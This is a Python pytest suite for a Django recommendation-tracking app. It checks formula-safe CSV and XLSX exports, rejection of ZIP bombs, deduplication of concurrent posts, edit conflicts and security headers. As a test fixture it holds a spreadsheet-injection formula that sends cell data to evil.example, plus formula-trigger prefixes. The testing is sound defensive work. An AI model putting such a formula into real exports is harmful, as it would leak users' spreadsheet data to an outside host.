"""Hostile input and outages leave nothing broken: formula-safe exports, ZIP bombs and broken
Word files, a broker or mail server that is down, two clicks at once, and the small holes."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from accounts.once import new_token
from recommendations.models import DeadlineExtension, ProgressUpdate, ResponseState
from reports.builder import build_report
from reports.files import write
from tests import factories
from tests.helpers import BOMB, ON_POSTGRES, at_once, logged_in

pytestmark = [pytest.mark.django_db, pytest.mark.storage]

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'

# 3. Exports never carry live formulas.


def test_csv_export_writes_formula_like_text_as_text(client, world):
    world.drafting.title_en = FORMULA
    world.drafting.save()
    client.force_login(world.users.secretariat)
    text = b"".join(client.get(reverse("recommendations:export", args=["csv"])).streaming_content).decode("utf-8-sig")
    rows = {row[0]: row for row in csv.reader(io.StringIO(text))}
    assert rows[world.drafting.reference][1] == "'" + FORMULA
    for start in ("+1", "-1", "@SUM(A1)", "\tcmd", "\rcmd"):
        world.drafting.title_en = start
        world.drafting.save()
        text = b"".join(client.get(reverse("recommendations:export", args=["csv"])).streaming_content)
        row = next(r for r in csv.reader(io.StringIO(text.decode("utf-8-sig"))) if r[0] == world.drafting.reference)
        assert row[1].startswith("'"), start


def test_xlsx_export_and_report_workbook_write_formula_like_text_as_strings(client, world):
    world.drafting.title_en = FORMULA
    world.drafting.save()
    world.published.title_en = FORMULA
    world.published.save()
    client.force_login(world.users.secretariat)
    workbook = load_workbook(
        io.BytesIO(b"".join(client.get(reverse("recommendations:export", args=["xlsx"])).streaming_content))
    )
    cells = [row[1] for row in workbook.active.iter_rows(min_row=2) if row[0].value == world.drafting.reference]
    assert (cells[0].value, cells[0].data_type) == (FORMULA, "s")
    output = io.BytesIO()
    write(build_report(world.paper_c.meeting), "xlsx", output)
    sheet = load_workbook(io.BytesIO(output.getvalue())).worksheets[1]
    (cell,) = [row[1] for row in sheet.iter_rows(min_row=2) if row[0].value == world.published.reference]
    assert (cell.value, cell.data_type) == (FORMULA, "s")


# 4. Hostile files are refused before they are inflated.


def test_a_zip_bomb_is_refused_as_evidence_before_it_is_inflated(client, world, settings):
    settings.MAX_UNZIPPED_SIZE = 10 * 1024 * 1024
    assert len(BOMB) < 100 * 1024
    client.force_login(world.users.officer_a)
    response = client.post(
        reverse("recommendations:log_progress", args=[world.drafting.reference]),
        {
            "form_token": new_token(),
            "status": "in_progress",
            "progress": "10",
            "note_en": "Keep this note",
            "visibility": "internal",
            "evidence": SimpleUploadedFile("bomb.docx", BOMB),
        },
    )
    assert response.status_code == 400
    assert "would unpack to more than 10.0\xa0MB" in response.content.decode()
    assert "Keep this note" in response.content.decode()
    assert not ProgressUpdate.objects.filter(recommendation=world.drafting).exists()


# 5. An outage leaves nothing orphaned.


# 6. Concurrent work is never lost or doubled.


def test_the_same_progress_post_twice_makes_one_update(client, world):
    client.force_login(world.users.officer_a)
    data = {
        "form_token": new_token(),
        "status": "in_progress",
        "progress": "20",
        "note_en": "x",
        "visibility": "shared",
    }
    url = reverse("recommendations:log_progress", args=[world.drafting.reference])
    first, second = client.post(url, data), client.post(url, data, follow=True)
    assert first.status_code == 302
    assert "it was saved once, not twice" in second.content.decode()
    assert ProgressUpdate.objects.filter(recommendation=world.drafting).count() == 1


def test_a_post_without_its_token_changes_nothing(client, world):
    client.force_login(world.users.officer_a)
    url = reverse("recommendations:log_progress", args=[world.drafting.reference])
    response = client.post(url, {"status": "in_progress", "progress": "20", "note_en": "x", "visibility": "shared"})
    assert response.status_code == 302
    assert not ProgressUpdate.objects.filter(recommendation=world.drafting).exists()


def test_a_form_with_errors_can_be_sent_again_with_its_token(client, world):
    client.force_login(world.users.officer_a)
    url = reverse("recommendations:log_progress", args=[world.drafting.reference])
    data = {
        "form_token": new_token(),
        "status": "in_progress",
        "progress": "140",
        "note_en": "x",
        "visibility": "shared",
    }
    assert client.post(url, data).status_code == 400
    assert client.post(url, {**data, "progress": "40"}).status_code == 302
    assert ProgressUpdate.objects.filter(recommendation=world.drafting).count() == 1


def test_two_editors_of_one_draft_see_a_conflict_with_both_texts(client, world):
    factories.ResponseFactory(recommendation=world.drafting, department=world.department_a, text_en="First")
    url = reverse("recommendations:save_response", args=[world.drafting.reference])
    opened = world.drafting.response.version  # both officers open the page at this version
    colleague = factories.OfficerFactory(department=world.department_a).user
    other = Client()
    other.force_login(colleague)
    saved = other.post(
        url, {"form_token": new_token(), "version": opened, "stance": "accepted", "text_en": "Colleague's text"}
    )
    assert saved.status_code == 302
    client.force_login(world.users.officer_a)
    conflict = client.post(url, {"form_token": new_token(), "version": opened, "stance": "noted", "text_en": "Mine"})
    assert conflict.status_code == 409
    page = conflict.content.decode()
    assert "Colleague&#x27;s text" in page and "Mine" in page
    world.drafting.response.refresh_from_db()
    assert world.drafting.response.text_en == "Colleague's text"
    # The form now carries the current version: the merged text goes through.
    merged = client.post(
        url,
        {"form_token": new_token(), "version": conflict.context["response_form"]["version"].value(), "text_en": "Both"}
        | {"stance": "accepted"},
    )
    assert merged.status_code == 302
    world.drafting.response.refresh_from_db()
    assert world.drafting.response.text_en == "Both"


@ON_POSTGRES
@pytest.mark.django_db(transaction=True)
def test_publish_and_send_back_at_once_give_one_decision(world):
    url = reverse("recommendations:sign_off", args=[world.awaiting.reference])
    head, secretariat = logged_in(world.users.head_a), logged_in(world.users.secretariat)
    posts = [
        lambda: secretariat.post(url, {"form_token": new_token(), "decision": "publish"}, follow=True),
        lambda: head.post(url, {"form_token": new_token(), "decision": "send_back", "comment": "No."}, follow=True),
    ]
    pages = at_once(2, lambda index: posts[index]().content.decode())
    succeeded = ["Response published." in pages[0], "Response sent back to the officer." in pages[1]]
    assert succeeded.count(True) == 1, "both decisions reported success"
    response = world.awaiting.response.__class__.objects.get(recommendation=world.awaiting)
    assert response.state == (ResponseState.PUBLISHED if succeeded[0] else ResponseState.DRAFT)
    refused = pages[1] if succeeded[0] else pages[0]
    assert "someone has decided on it already" in refused


@ON_POSTGRES
@pytest.mark.django_db(transaction=True)
def test_four_extension_requests_at_once_make_one_and_no_error(world):
    url = reverse("recommendations:request_extension", args=[world.drafting.reference])
    clients = [logged_in(world.users.officer_a) for _ in range(4)]
    statuses = at_once(
        4,
        lambda index: (
            clients[index]
            .post(url, {"form_token": new_token(), "requested_date": "2027-06-30", "reason": f"Reason {index}"})
            .status_code
        ),
    )
    assert statuses == [302] * 4
    assert DeadlineExtension.objects.filter(recommendation=world.drafting).count() == 1


@ON_POSTGRES
@pytest.mark.django_db(transaction=True)
def test_the_same_progress_post_twice_at_once_makes_one_update(world):
    data = {
        "form_token": new_token(),
        "status": "in_progress",
        "progress": "20",
        "note_en": "x",
        "visibility": "shared",
    }
    url = reverse("recommendations:log_progress", args=[world.drafting.reference])
    clients = [logged_in(world.users.officer_a) for _ in range(2)]
    assert at_once(2, lambda index: clients[index].post(url, data).status_code) == [302, 302]
    assert ProgressUpdate.objects.filter(recommendation=world.drafting).count() == 1


@ON_POSTGRES
@pytest.mark.django_db(transaction=True)
def test_two_updates_logged_at_once_leave_the_latest_status(world):
    url = reverse("recommendations:log_progress", args=[world.drafting.reference])
    clients = [logged_in(world.users.officer_a) for _ in range(2)]
    at_once(
        2,
        lambda index: clients[index].post(
            url,
            {
                "form_token": new_token(),
                "status": "in_progress",
                "progress": str(10 * (index + 1)),
                "note_en": "x",
                "visibility": "shared",
            },
        ),
    )
    world.drafting.refresh_from_db()
    assert ProgressUpdate.objects.filter(recommendation=world.drafting).count() == 2
    latest = ProgressUpdate.objects.filter(recommendation=world.drafting).order_by("-date", "-created_at").first()
    assert (world.drafting.progress, world.drafting.shared_progress) == (latest.progress, latest.progress)


# 7. Small holes.


@pytest.mark.parametrize(
    "path", ["/recommendations/%00/", "/recommendations/16-01-01%00/", "/recommendations/" + "9" * 40 + "/"]
)
def test_a_reference_that_cannot_exist_is_a_404(client, world, path):
    client.force_login(world.users.secretariat)
    assert client.get(path).status_code == 404


def test_pages_carry_a_content_security_policy(client, world):
    client.force_login(world.users.officer_a)
    policy = client.get(reverse("workspace"))["Content-Security-Policy"]
    assert "default-src 'self'" in policy and "script-src 'self'" in policy and "object-src 'none'" in policy
    assert "unsafe-inline" not in policy


def test_signed_in_pages_and_downloads_are_not_cached(client, world):
    client.force_login(world.users.liaison_c)
    for url in (
        reverse("portal"),
        world.published.get_absolute_url(),
        reverse("recommendations:export", args=["csv"]),
        reverse("evidence", args=[world.shared_update.pk]),
    ):
        cache_control = client.get(url)["Cache-Control"]
        assert "private" in cache_control and "no-store" in cache_control, url


@ON_POSTGRES
@pytest.mark.django_db(transaction=True)
def test_two_clarifications_at_once_give_one_answer_and_one_notice(world):
    from recommendations.models import Feedback
    from reminders.models import Notice

    feedback = Feedback.objects.create(
        response=world.published.response,
        author=world.users.liaison_c,
        answer_satisfaction=2,
        requests_clarification=True,
    )
    url = reverse("recommendations:answer_clarification", args=[world.published.reference, feedback.pk])
    officer, head = logged_in(world.users.officer_a), logged_in(world.users.head_a)
    posts = [
        lambda: officer.post(url, {"form_token": new_token(), "clarification_en": "From the officer"}, follow=True),
        lambda: head.post(url, {"form_token": new_token(), "clarification_en": "From the head"}, follow=True),
    ]
    pages = at_once(2, lambda index: posts[index]().content.decode())
    assert sum("Your clarification is sent to the company." in page for page in pages) == 1
    assert sum("answered this clarification request already" in page for page in pages) == 1
    feedback.refresh_from_db()
    assert feedback.clarification_en in ("From the officer", "From the head")
    # Once for the company's liaison, with the answer that stands.
    (notice,) = Notice.objects.filter(kind="clarified")
    assert notice.detail["comment"]["en"] == feedback.clarification_en
